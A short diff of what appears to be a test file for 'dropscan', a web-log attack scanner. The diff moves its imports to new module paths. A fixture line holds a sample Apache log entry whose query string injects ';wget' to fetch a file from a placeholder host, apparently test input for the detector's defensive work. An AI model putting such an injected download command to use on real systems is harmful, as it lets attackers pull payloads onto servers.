@@ -20,11 +20,11 @@ import sys
 import tempfile
 import time
 
-from dropscan.decode import MAX_FIELD
+from dropscan.detect.decode import MAX_FIELD
+from dropscan.detect.scanner import Scanner
 from dropscan.engine import Scan, ScanOptions, default_signatures
-from dropscan.logformat import apache_escape, compile_format
-from dropscan.scanner import Scanner
-from dropscan.sources import MAX_LINE
+from dropscan.formats.logformat import apache_escape, compile_format
+from dropscan.sources.files import MAX_LINE
 
 COMBINED = compile_format("combined")
 ATTACK = b'203.0.113.7 - - [27/Nov/2026:10:00:00 +0000] "GET /x?c=;wget http://203.0.113.9/a HTTP/1.1" 404 1 "-" "-"\n'
